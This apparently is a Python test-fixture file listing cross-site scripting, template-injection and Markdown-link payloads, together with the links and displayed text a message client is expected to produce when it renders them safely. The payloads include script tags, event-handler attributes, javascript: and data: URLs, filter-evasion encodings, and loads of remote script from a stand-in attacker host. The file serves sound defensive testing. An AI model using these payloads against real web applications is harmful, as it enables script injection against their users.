"""Messages that would run code if the client rendered text as HTML, a URL or a template.

Each one tries to set `window.__xss`, call `alert`, or fetch from a host that is not the
edge (which the request check catches). None has leading or trailing white space, so the
text on screen must equal the payload character for character, or where Markdown formats it,
the text in SHOWN.
"""

SET = "window.__xss=1"

PAYLOADS: list[str] = [
    # Script elements, plain and disguised.
    f"<script>{SET}</script>",
    "<script>alert(1)</script>",
    f"<SCRIPT SRC=http://evil.invalid/xss.js></SCRIPT>{SET}",
    f"<scr<script>ipt>{SET}</scr</script>ipt>",
    f"<svg><script>{SET}</script></svg>",
    f"line one\n<script>{SET}</script>\nline three",
    # Event handlers on elements that fire by themselves.
    f'<img src=x onerror="{SET}">',
    "<img src=\"http://evil.invalid/x.png\" onerror=alert('img')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    f"<IMG SRC=JaVaScRiPt:{SET}>",
    f'<svg onload="{SET}">',
    f"'><svg/onload={SET}>",
    f"<body onload={SET}>",
    f"<input autofocus onfocus={SET}>",
    f"<details open ontoggle={SET}>",
    f'<video><source onerror="{SET}"></video>',
    f"<audio src=x onerror={SET}>",
    f"<marquee onstart={SET}>",
    f"<x contenteditable onblur={SET}>lose focus!",
    f'<div onmouseover="{SET}">hover me</div>',
    f"<button onclick={SET}>press</button>",
    f"<isindex type=image src=1 onerror={SET}>",
    # Frames, objects and navigation.
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<iframe src="javascript:parent.__xss=1"></iframe>',
    f'<object data="javascript:{SET}"></object>',
    f'<embed src="javascript:{SET}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{SET}">',
    '<base href="http://evil.invalid/">',
    f'<form action="javascript:{SET}"><button>go</button></form>',
    f'<a href="javascript:{SET}">click me</a>',
    f'<svg><a xlink:href="javascript:{SET}"><text x="20" y="20">XSS</text></a></svg>',
    "<style>@import 'http://evil.invalid/x.css';</style>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    # URLs with schemes other than http(s): never links.
    f"javascript:{SET}",
    "JaVaScRiPt:alert(1)",
    f"data:text/html,<script>{SET}</script>",
    "vbscript:msgbox(1)",
    # Breaking out of whatever the text might have been put in.
    f"</textarea><script>{SET}</script>",
    f"</p><img src=x onerror={SET}><p>",
    f'"><script>{SET}</script>',
    f'" onerror="{SET}',
    f'<!--<img src="--><img src=x onerror={SET}//">',
    f'<noscript><p title="</noscript><img src=x onerror={SET}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={SET}>",
    f"<template><img src=x onerror={SET}></template>",
    # Markdown-style links and images.
    f"[click](javascript:{SET})",
    f'![pic](x" onerror="{SET})',
    f"[ok](https://example.com) and [bad](javascript:{SET})",
    # Links next to markup: only the http(s) part may become a link.
    f'<a href="https://example.com" onclick="{SET}">x</a>',
    f"https://example.com/?q=<script>{SET}</script>",
    f'http://example.com/"onmouseover="{SET}"',
    # Entities and encodings must stay as typed.
    f"&lt;script&gt;{SET}&lt;/script&gt;",
    f"&#60;img src=x onerror={SET}&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    f"%3Cscript%3E{SET}%3C%2Fscript%3E",
    # Unicode look-alikes, invisible characters, direction overrides.
    f"\uff1cscript\uff1e{SET}\uff1c/script\uff1e",
    f"<scr\u200bipt>{SET}</scr\u200bipt>",
    "\u202e>tpircs/<1=ssx__.wodniw>tpircs<",
    "z\u0351\u0338a\u0336l\u0337g\u0338o \U0001f469\u200d\U0001f4bb",
    # Template syntaxes.
    "{{7*7}}",
    "${7*7}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "__proto__",
    # Markdown: links and images with other schemes, autolinks, HTML blocks, references.
    f"[x](JaVaScRiPt:{SET})",
    f"[x](  javascript:{SET} )",
    f"[x](<javascript:{SET}>)",
    f"[x](&#106;avascript:{SET})",
    f"[x](java\\nscript:{SET})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'[x](vbscript:{SET} "title")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.invalid/pixel.png)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.invalid/pixel.png)](https://example.com/img)",
    f"<javascript:{SET}>",
    "<https://example.com/auto>",
    "<mailto:someone@example.com>",
    f'<div onclick="{SET}">\n\n**bold** inside\n\n</div>',
    f"<details open ontoggle={SET}>\n\n- a list\n\n</details>",
    f"[ref][1]\n\n[1]: javascript:{SET}",
    "[ok][2]\n\n[2]: https://example.com/ref",
    f"[ref]\n\n[ref]: data:text/html,<script>{SET}</script>",
    f"`<img src=x onerror={SET}>`",
    f"```html\n<script>{SET}</script>\n```",
    f"> <script>{SET}</script>",
    f"**<img src=x onerror={SET}>**",
    f"[<img src=x onerror={SET}>](https://example.com/inner)",
    # A long one.
    "<b>" * 1000,
]

# Links the client may make: (payload, the hrefs of its links, in order).
EXPECTED_LINKS: dict[str, list[str]] = {
    f"[ok](https://example.com) and [bad](javascript:{SET})": ["https://example.com/"],
    f'<a href="https://example.com" onclick="{SET}">x</a>': ["https://example.com/"],
    f"https://example.com/?q=<script>{SET}</script>": ["https://example.com/?q="],
    f'http://example.com/"onmouseover="{SET}"': ["http://example.com/"],
    "![x](https://evil.invalid/pixel.png)": ["https://evil.invalid/pixel.png"],
    "[![x](https://evil.invalid/pixel.png)](https://example.com/img)": [
        "https://evil.invalid/pixel.png",
        "https://example.com/img",
    ],
    "<https://example.com/auto>": ["https://example.com/auto"],
    "<mailto:someone@example.com>": ["mailto:someone@example.com"],
    "[ok][2]\n\n[2]: https://example.com/ref": ["https://example.com/ref"],
    f"[<img src=x onerror={SET}>](https://example.com/inner)": ["https://example.com/inner"],
}

# What a payload shows where Markdown formats it (emphasis, a link's text and host badge,
# paragraphs, code): the text on screen, as textContent reads it. Any other payload shows as typed.
SHOWN: dict[str, str] = {
    f"[ok](https://example.com) and [bad](javascript:{SET})": (
        f"okexample.com and [bad](javascript:{SET})"
    ),
    "![x](https://evil.invalid/pixel.png)": "!xevil.invalid",
    "[![x](https://evil.invalid/pixel.png)](https://example.com/img)": (
        "[!xevil.invalid](https://example.com/img)"
    ),
    "<https://example.com/auto>": "https://example.com/auto",
    "<mailto:someone@example.com>": "mailto:someone@example.com",
    f'<div onclick="{SET}">\n\n**bold** inside\n\n</div>': (
        f'<div onclick="{SET}">bold inside</div>'
    ),
    f"<details open ontoggle={SET}>\n\n- a list\n\n</details>": (
        f"<details open ontoggle={SET}>a list</details>"
    ),
    f"[ref][1]\n\n[1]: javascript:{SET}": f"[ref][1][1]: javascript:{SET}",
    "[ok][2]\n\n[2]: https://example.com/ref": "okexample.com",
    f"[ref]\n\n[ref]: data:text/html,<script>{SET}</script>": (
        f"[ref][ref]: data:text/html,<script>{SET}</script>"
    ),
    f"`<img src=x onerror={SET}>`": f"<img src=x onerror={SET}>",
    f"```html\n<script>{SET}</script>\n```": f"<script>{SET}</script>",
    f"> <script>{SET}</script>": f"<script>{SET}</script>",
    f"**<img src=x onerror={SET}>**": f"<img src=x onerror={SET}>",
    f"[<img src=x onerror={SET}>](https://example.com/inner)": (
        f"<img src=x onerror={SET}>example.com"
    ),
    "__proto__": "proto",
}
